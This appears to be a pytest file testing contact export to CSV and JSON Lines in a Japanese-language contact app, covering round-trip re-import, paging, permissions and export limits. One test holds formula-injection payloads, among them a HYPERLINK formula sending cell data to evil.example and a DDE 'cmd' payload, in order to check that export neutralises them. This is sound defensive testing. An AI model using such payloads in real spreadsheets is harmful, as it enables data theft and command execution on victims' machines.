"""Exporting contacts as CSV and JSON Lines, and importing the export again."""

from __future__ import annotations

import csv
import gc
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from sodate.imports import export
from sodate.imports.export import ExportFormat, ExportSlots
from sodate.runtime import Runtime
from sodate.workspaces.schemas import Created
from tests.imports.helpers import contacts, import_file, write_csv
from tests.workspaces.helpers import key_headers

ROWS = [
    ["メールアドレス", "氏名", "会社名", "役職", "LINE", "会員", "メモ"],
    [
        "taro@example.jp",
        "山田 太郎",
        "株式会社サンプル",
        "部長",
        "U-1",
        "はい",
        '改行\nあり、"引用"',
    ],
    ["hanako@example.jp", "佐藤 花子", "", "", "", "いいえ", "𠮷野家で名刺交換 🍱"],
]


@pytest.fixture
def imported(tmp_path: Path, runtime: Runtime, workspace: Created) -> None:
    path = write_csv(tmp_path / "in.csv", ROWS)
    import_file(
        runtime,
        workspace.workspace.id,
        path,
        source="展示会2026",
        mapping={"LINE": "external:line", "会員": "member:bool"},
    )


@pytest.mark.usefixtures("imported")
def test_csv_export_keeps_japanese_text_and_imports_back(
    tmp_path: Path,
    runtime: Runtime,
    workspace: Created,
    client: TestClient,
    admin_headers: dict[str, str],
) -> None:
    response = client.get("/api/v1/exports/contacts", headers=admin_headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # so that Excel reads UTF-8
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_email = {row["email"]: row for row in rows}
    taro = by_email["taro@example.jp"]
    assert taro["display_name"] == "山田 太郎"
    assert taro["company"] == "株式会社サンプル"
    assert taro["external:line"] == "U-1"
    assert taro["title"] == "部長"
    assert taro["member"] == "true"
    assert taro["メモ"] == '改行\nあり、"引用"'
    assert taro["sources"] == "展示会2026"
    assert by_email["hanako@example.jp"]["メモ"] == "𠮷野家で名刺交換 🍱"

    before = contacts(client, admin_headers)
    path = tmp_path / "export.csv"
    path.write_bytes(response.content)
    # CSV has no types: a typed trait is declared again, as on the first import.
    again = import_file(
        runtime,
        workspace.workspace.id,
        path,
        source="展示会2026",
        mapping={"member": "member:bool"},
    )
    assert (again.created, again.updated, again.rejected) == (0, 2, 0)
    after = contacts(client, admin_headers)
    assert [(c["id"], c["traits"], c["company"]) for c in after] == [
        (c["id"], c["traits"], c["company"]) for c in before
    ]


@pytest.mark.usefixtures("imported")
def test_jsonl_export_has_whole_profiles(client: TestClient, admin_headers: dict[str, str]) -> None:
    response = client.get(
        "/api/v1/exports/contacts", params={"format": "jsonl"}, headers=admin_headers
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/x-ndjson; charset=utf-8"
    assert "山田 太郎".encode() in response.content  # not \u-escaped
    lines = [json.loads(line) for line in response.content.decode().splitlines()]
    assert lines == contacts(client, admin_headers)


def test_export_pages_through_every_contact(
    tmp_path: Path,
    runtime: Runtime,
    workspace: Created,
    client: TestClient,
    admin_headers: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("sodate.imports.export.PAGE", 2)
    rows = [["email", "no"]] + [[f"p{i}@example.jp", str(i)] for i in range(5)]
    import_file(runtime, workspace.workspace.id, write_csv(tmp_path / "five.csv", rows))
    response = client.get(
        "/api/v1/exports/contacts", params={"bom": "false"}, headers=admin_headers
    )
    lines = response.content.decode().splitlines()
    assert lines[0].startswith("id,email,")
    assert len(lines) == 6


def test_export_needs_read_and_import_needs_write(
    client: TestClient, admin_headers: dict[str, str]
) -> None:
    viewer = key_headers(client, admin_headers, role="viewer")
    assert client.get("/api/v1/exports/contacts", headers=viewer).status_code == 200
    response = client.post("/api/v1/imports", content=b"email\r\na@example.jp\r\n", headers=viewer)
    assert response.status_code == 403


def test_formulas_in_profiles_are_quoted_for_spreadsheets_and_import_back_as_they_were(
    tmp_path: Path,
    runtime: Runtime,
    workspace: Created,
    client: TestClient,
    admin_headers: dict[str, str],
) -> None:
    # Anyone with a site's write key can put a formula on a profile.
    hostile = {
        "link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "dde": "+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)",
        "minus": "-2+3",
        "negative": "-5",
        "phone_text": "+81 90-1234-5678",
        "quoted": "'=already quoted",
        "apostrophe": "'tis",
        "@type": "Person",
        "-x": "y",
    }
    created = client.post(
        "/api/v1/contacts",
        json={"email": "csv@example.jp", "traits": hostile},
        headers=admin_headers,
    )
    assert created.status_code == 201, created.text
    response = client.get("/api/v1/exports/contacts", headers=admin_headers)
    [row] = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["link"] == "'" + hostile["link"]
    assert row["dde"] == "'" + hostile["dde"]
    assert row["at"] == "'@SUM(1+1)"
    assert row["minus"] == "'-2+3"
    assert (row["negative"], row["phone_text"]) == ("-5", "+81 90-1234-5678")  # not formulas
    assert (row["quoted"], row["apostrophe"]) == ("''=already quoted", "'tis")
    assert (row["trait:@type"], row["trait:-x"]) == ("Person", "y")  # safe headers too

    before = contacts(client, admin_headers)
    path = tmp_path / "export.csv"
    path.write_bytes(response.content)
    again = import_file(runtime, workspace.workspace.id, path)
    assert (again.updated, again.rejected) == (1, 0)
    assert contacts(client, admin_headers)[0]["traits"] == before[0]["traits"]


@pytest.mark.usefixtures("imported")
def test_exports_past_the_limit_are_refused_with_retry_after_until_one_ends(
    runtime: Runtime,
    workspace: Created,
    client: TestClient,
    admin_headers: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    slots = ExportSlots(2)
    monkeypatch.setattr(export, "EXPORT_SLOTS", slots)
    # Two exports whose clients have not read yet: each holds a snapshot and a connection.
    first = export.open_export(runtime.db, workspace.workspace.id, fmt=ExportFormat.CSV, bom=True)
    second = export.open_export(runtime.db, workspace.workspace.id, fmt=ExportFormat.CSV, bom=True)
    assert next(first).startswith("\ufeff".encode())
    busy = client.get("/api/v1/exports/contacts", headers=admin_headers)
    assert busy.status_code == 429
    assert busy.json()["error"]["code"] == "too_many_exports"
    assert busy.headers["Retry-After"] == str(export.EXPORTS_BUSY_RETRY_SECONDS)
    assert b"taro@example.jp" in b"".join(first)  # read to the end: its slot is free
    done = client.get("/api/v1/exports/contacts", headers=admin_headers)
    assert done.status_code == 200
    assert "taro@example.jp" in done.text
    assert client.get("/api/v1/exports/contacts", headers=admin_headers).status_code == 200
    del second  # never read, as when a client leaves before the first byte
    gc.collect()
    third = export.open_export(
        runtime.db, workspace.workspace.id, fmt=ExportFormat.JSONL, bom=False
    )
    fourth = export.open_export(
        runtime.db, workspace.workspace.id, fmt=ExportFormat.JSONL, bom=False
    )
    with pytest.raises(export.ExportsBusy):
        export.open_export(runtime.db, workspace.workspace.id, fmt=ExportFormat.JSONL, bom=False)
    for stream in (third, fourth):
        stream.close()  # type: ignore[attr-defined]
